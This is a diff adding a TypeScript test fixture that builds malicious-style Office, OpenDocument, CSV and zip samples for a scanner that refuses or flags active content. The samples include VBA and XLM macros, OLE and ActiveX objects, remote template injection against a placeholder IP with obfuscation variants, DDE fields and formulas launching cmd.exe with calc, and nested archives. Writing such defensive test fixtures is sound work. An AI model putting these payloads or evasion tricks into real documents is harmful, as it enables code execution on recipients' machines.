@@ -1,0 +1,213 @@
+import type { ActiveContent } from '#contract/files.ts'
+import { oddZip } from './odd-zip.ts'
+import { body, contents, ole, ooxml, opendocument, relations } from './office-files.ts'
+
+interface ActiveFile {
+  name: string
+  found: ActiveContent[]
+  make: () => Buffer
+}
+
+const far = 'http://198.51.100.7/vorlage.dotm'
+
+/** Office files that act by themselves when somebody opens them: refused, or marked where the settings say so. */
+export const activeFiles: ActiveFile[] = [
+  word('Makros', ['macros'], { 'word/vbaProject.bin': ole }),
+  word('Makros anders benannt', ['embedded', 'macros'], {
+    'word/bild.bin': ole,
+    'word/_rels/document.xml.rels': relations(['vbaProject', 'bild.bin']),
+  }),
+  word('OLE-Objekt', ['embedded'], {
+    'word/embeddings/oleObject1.bin': ole,
+    'word/_rels/document.xml.rels': relations(['oleObject', 'embeddings/oleObject1.bin']),
+  }),
+  word('OLE als Bild', ['embedded'], { 'word/media/bild.png': ole }),
+  word('ActiveX', ['embedded'], {
+    'word/_rels/document.xml.rels': relations(['control', 'activeX/activeX1.xml']),
+  }),
+  word('fremde Vorlage', ['external'], {
+    'word/_rels/settings.xml.rels': relations(['attachedTemplate', far, 'External']),
+  }),
+  word('Vorlage auf einem Server', ['external'], {
+    'word/_rels/settings.xml.rels': relations([
+      'attachedTemplate',
+      'file:///\\\\198.51.100.7\\v\\a.dotm',
+      'External',
+    ]),
+  }),
+  word('Vorlage mit Zeichenverweisen', ['external'], {
+    'word/_rels/settings.xml.rels': relations(['attachedTemplate', far, 'Ext&#101;rnal']),
+  }),
+  word('Vorlage in UTF-16', ['external'], {
+    'word/_rels/settings.xml.rels': utf16(relations(['attachedTemplate', far, 'External'])),
+  }),
+  word('Vorlage mit Vorsatz', ['external'], {
+    'word/_rels/settings.xml.rels': `<p:Relationships xmlns:p="r"><p:Relationship Id="r" Type="x/attachedTemplate" Target="${far}" TargetMode="External"/></p:Relationships>`,
+  }),
+  word('verlinktes Objekt', ['embedded', 'external'], {
+    'word/_rels/document.xml.rels': relations(['oleObject', 'http://198.51.100.7/a', 'External']),
+  }),
+  word('Rahmen', ['external'], {
+    'word/_rels/webSettings.xml.rels': relations(['frame', 'http://198.51.100.7/', 'External']),
+  }),
+  word('Bild von woanders', ['external'], {
+    'word/_rels/document.xml.rels': relations(['image', '\\\\198.51.100.7\\a.png', 'External']),
+  }),
+  word('Teildokument', ['external'], {
+    'word/_rels/document.xml.rels': relations(['subDocument', 'file:///x/a.docx', 'External']),
+  }),
+  word('eingebettete Seite', ['embedded'], {
+    'word/_rels/document.xml.rels': relations(['aFChunk', 'a.html']),
+  }),
+  word('DDE', ['dde'], fields('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
+  word('DDE zerteilt', ['dde'], fields('D', 'DE', 'AUTO', ' cmd "/k calc"')),
+  word('DDE klein geschrieben', ['dde'], fields(' ddeauto cmd "/k calc"')),
+  word('DDE im einfachen Feld', ['dde'], {
+    'word/document.xml': body('<w:fldSimple w:instr="DDE cmd &quot;/k calc&quot;"/>'),
+  }),
+  word('DDE in der Fußzeile', ['dde'], { 'word/footer1.xml': field('DDEAUTO cmd') }),
+  word(
+    'Verknüpfung als Feld',
+    ['external'],
+    fields('LINK Excel.Sheet.8 "http://198.51.100.7/a.xls"'),
+  ),
+  word('Text von woanders', ['external'], fields('INCLUDETEXT "http://198.51.100.7/a.docx"')),
+  {
+    name: 'XLM-Makros.xlsx',
+    found: ['macros'],
+    make: () =>
+      ooxml('xlsx', {
+        'xl/_rels/workbook.xml.rels': relations(['xlMacrosheet', 'macrosheets/sheet1.xml']),
+      }),
+  },
+  {
+    name: 'DDE.xlsx',
+    found: ['dde'],
+    make: () =>
+      ooxml('xlsx', {
+        'xl/externalLinks/externalLink1.xml':
+          '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+      }),
+  },
+  {
+    name: 'DDE in einer Formel.xlsx',
+    found: ['dde'],
+    make: () =>
+      ooxml('xlsx', {
+        'xl/worksheets/sheet1.xml': `<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>`,
+      }),
+  },
+  {
+    name: 'Abfrage im Netz.xlsx',
+    found: ['external'],
+    make: () =>
+      ooxml('xlsx', {
+        'xl/connections.xml':
+          '<connections><connection id="1"><webPr url="http://198.51.100.7"/></connection></connections>',
+      }),
+  },
+  {
+    name: 'Programm beim Klick.pptx',
+    found: ['macros'],
+    make: () =>
+      ooxml('pptx', {
+        'ppt/slides/slide1.xml': '<a:hlinkClick xmlns:a="a" action="ppaction://program"/>',
+      }),
+  },
+  {
+    name: 'Film von woanders.pptx',
+    found: ['external'],
+    make: () =>
+      ooxml('pptx', {
+        'ppt/slides/_rels/slide1.xml.rels': relations([
+          'video',
+          'http://198.51.100.7/',
+          'External',
+        ]),
+      }),
+  },
+  text('Makros', ['macros'], { 'Basic/Standard/Module1.xml': '<script:module xmlns:script="s"/>' }),
+  text('Python', ['macros'], { 'Scripts/python/a.py': 'import os' }),
+  text(
+    'Makro beim Öffnen',
+    ['macros'],
+    inContent(
+      '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>',
+    ),
+  ),
+  text('OLE', ['embedded'], inContent('<draw:object-ole xlink:href="./Object 1"/>')),
+  text('Applet', ['embedded'], inContent('<draw:applet/>')),
+  text(
+    'Rahmen',
+    ['external'],
+    inContent('<draw:floating-frame xlink:href="http://198.51.100.7/"/>'),
+  ),
+  text(
+    'Bild von woanders',
+    ['external'],
+    inContent('<draw:image xlink:href="http://198.51.100.7/a.png"/>'),
+  ),
+  text(
+    'Abschnitt von woanders',
+    ['external'],
+    inContent('<text:section-source xlink:href="../a.odt"/>'),
+  ),
+  text('DDE', ['dde'], inContent('<text:dde-connection-decl office:name="a"/>')),
+  {
+    name: 'DDE.ods',
+    found: ['dde'],
+    make: () =>
+      opendocument(
+        'spreadsheet',
+        inContent('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
+      ),
+  },
+  {
+    name: 'Makros im Archiv.zip',
+    found: ['macros'],
+    make: () =>
+      oddZip([
+        { name: 'b.docx', bytes: ooxml('docx', { 'word/vbaProject.bin': ole }), isPacked: true },
+      ]),
+  },
+  {
+    name: 'Makros im Archiv im Archiv.zip',
+    found: ['macros'],
+    make: () =>
+      oddZip([
+        {
+          name: 'c.zip',
+          bytes: oddZip([{ name: 'b.docx', bytes: ooxml('docx', { 'word/vbaProject.bin': ole }) }]),
+        },
+      ]),
+  },
+  { name: 'DDE.csv', found: ['dde'], make: () => Buffer.from(`a;b\r\n=cmd|'/C calc'!A0;2\r\n`) },
+]
+
+function word(what: string, found: ActiveContent[], parts: Record<string, string | Buffer>) {
+  return { name: `${what}.docx`, found, make: () => ooxml('docx', parts) }
+}
+
+function text(what: string, found: ActiveContent[], parts: Record<string, string | Buffer>) {
+  return { name: `${what}.odt`, found, make: () => opendocument('text', parts) }
+}
+
+function inContent(content: string) {
+  return { 'content.xml': contents(content) }
+}
+
+/** A text with a field whose instruction is cut into these pieces. */
+function fields(...pieces: string[]) {
+  return { 'word/document.xml': field(...pieces) }
+}
+
+function field(...pieces: string[]): string {
+  const cut = pieces.map(
+    (piece) => `<w:r><w:instrText>${piece.replaceAll('"', '&quot;')}</w:instrText></w:r>`,
+  )
+  return body(`<w:fldChar w:fldCharType="begin"/>${cut.join('')}<w:fldChar w:fldCharType="end"/>`)
+}
+
+function utf16(text: string): Buffer {
+  return Buffer.from(`\ufeff${text}`, 'utf16le')
+}
